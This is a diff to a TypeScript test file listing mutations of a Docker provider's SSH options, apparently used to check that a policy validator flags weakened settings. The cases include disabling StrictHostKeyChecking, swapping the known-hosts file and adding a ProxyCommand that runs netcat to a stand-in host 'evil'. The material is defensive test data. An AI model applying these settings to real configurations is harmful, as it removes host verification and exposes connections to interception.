@@ -2,7 +2,7 @@ import { gib } from "../../../../config/size";
 import { types } from "../../../../policies/types";
 import { notYetKnown, type TestResource } from "../harness";
 import { reportedNode } from "../house";
-import { adding, find, rows, setting, type Mutation } from "./mutation";
+import { adding, find, rows, setting, sshOptions, type Mutation } from "./mutation";
 import { addressMutations } from "./addresses";
 import { backupMutations } from "./backups";
 import { commandMutations } from "./commands";
@@ -31,16 +31,9 @@ const unprotected =
     void (find(stack, type, name).protect = false);
 
 /** The provider's options with one changed, left out, or put before the others. */
-const sshOptions =
-  (change: (options: string[]) => string[]) =>
-  (stack: TestResource[]): void => {
-    const provider = find(stack, types.dockerProvider, "tooling-docker");
-    const { sshOpts } = provider.inputs as { sshOpts: string | string[] };
-    const options = typeof sshOpts === "string" ? (JSON.parse(sshOpts) as string[]) : sshOpts;
-    provider.inputs = { ...provider.inputs, sshOpts: JSON.stringify(change([...options])) };
-  };
+const options = (change: (options: string[]) => string[]) => sshOptions("tooling-docker", change);
 
-const replaced = (from: string, to: string) => sshOptions((all) => all.map((each) => (each === from ? to : each)));
+const replaced = (from: string, to: string) => options((all) => all.map((each) => (each === from ? to : each)));
 
 /** Everything but single containers' rights. */
 export const mutations: readonly Mutation[] = [
@@ -85,27 +78,27 @@ export const mutations: readonly Mutation[] = [
     ],
     [
       "a first option that wins",
-      sshOptions((all) => ["-o", "StrictHostKeyChecking=no", ...all]),
+      options((all) => ["-o", "StrictHostKeyChecking=no", ...all]),
       "StrictHostKeyChecking no",
     ],
     [
       "an option in another case",
-      sshOptions((all) => ["-o", "stricthostkeychecking=no", ...all]),
+      options((all) => ["-o", "stricthostkeychecking=no", ...all]),
       "stricthostkeychecking no",
     ],
     [
       "an option in one word",
-      sshOptions((all) => ["-oStrictHostKeyChecking=no", "x", ...all]),
+      options((all) => ["-oStrictHostKeyChecking=no", "x", ...all]),
       "-oStrictHostKeyChecking=no",
     ],
-    ["an option that shifts the pairs", sshOptions((all) => ["-v", ...all]), "have -v -F"],
-    ["the user's own settings", sshOptions((all) => all.slice(2)), "have no -F"],
+    ["an option that shifts the pairs", options((all) => ["-v", ...all]), "have -v -F"],
+    ["the user's own settings", options((all) => all.slice(2)), "have no -F"],
     [
       "known hosts of the user",
       replaced("UserKnownHostsFile=/dev/null", "UserKnownHostsFile=/tmp/hosts"),
       "/tmp/hosts",
     ],
-    ["a proxy", sshOptions((all) => [...all, "-o", "ProxyCommand=nc evil 22"]), "ProxyCommand nc evil 22"],
+    ["a proxy", options((all) => [...all, "-o", "ProxyCommand=nc evil 22"]), "ProxyCommand nc evil 22"],
     ["a key of another host", docker({ host: "ssh://ops@192.168.1.61" }), "KnownHostsCommand /bin/echo 192.168.1.60"],
     ["no options", docker({ sshOpts: undefined }), "have no StrictHostKeyChecking"],
   ),
